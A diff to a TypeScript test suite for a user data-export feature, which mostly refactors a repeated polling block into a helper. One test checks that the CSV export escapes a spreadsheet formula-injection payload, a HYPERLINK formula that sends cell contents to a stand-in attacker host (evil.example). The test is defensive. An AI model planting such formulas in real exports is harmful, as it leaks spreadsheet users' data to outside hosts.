@@ -43,6 +43,17 @@ describe('right of access (requestMyData) and retention', () => {
   const download = (path: string, token?: string) =>
     fetch(`${api.url}${path}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
 
+  /** The resident's latest archive, once the worker has built it. */
+  const archiveBuilt = (as: ReturnType<typeof api.gql.as>): Promise<{ status: string; downloadPath: string }> =>
+    waitFor(
+      async () => {
+        const latest: { status: string; downloadPath: string } = (await as.ok(LATEST)).myDataExport;
+        return latest.status === 'READY' ? latest : undefined;
+      },
+      20_000,
+      'archive built',
+    );
+
   /** Two residents who did the same things, each with words of their own to look for. */
   async function twoActiveResidents() {
     const [aurelie] = await createUsers(api, 1, { verified: true, displayName: 'Aurélie Exportée' });
@@ -77,14 +88,7 @@ describe('right of access (requestMyData) and retention', () => {
     expect(requestMyData).toMatchObject({ status: 'PENDING', downloadPath: null });
     expect((await as.ok(REQUEST)).requestMyData.id).toBe(requestMyData.id); // one at a time
 
-    const ready = await waitFor(
-      async () => {
-        const latest: { status: string; downloadPath: string } = (await as.ok(LATEST)).myDataExport;
-        return latest.status === 'READY' ? latest : undefined;
-      },
-      20_000,
-      'archive built',
-    );
+    const ready = await archiveBuilt(as);
     expect(ready.downloadPath).toBe(`/my-data/exports/${requestMyData.id}`);
     expect(existsSync(dataExportPath(exportDir, requestMyData.id))).toBe(true);
     expect((await api.gql.as(bertrand.token).ok(LATEST)).myDataExport).toBeNull();
@@ -170,14 +174,7 @@ describe('right of access (requestMyData) and retention', () => {
     await insertProposals(api, c.id, [resident.id], 1, { title: () => formula, body: () => '-2+3' });
     const as = api.gql.as(resident.token);
     await as.ok(REQUEST);
-    const ready = await waitFor(
-      async () => {
-        const latest: { status: string; downloadPath: string } = (await as.ok(LATEST)).myDataExport;
-        return latest.status === 'READY' ? latest : undefined;
-      },
-      20_000,
-      'archive built',
-    );
+    const ready = await archiveBuilt(as);
     const entries = zipEntries(Buffer.from(await (await download(ready.downloadPath, resident.token)).arrayBuffer()));
     const csv = entries.get('proposals/proposals.csv')!.toString('utf8');
     expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Voir"")"`);
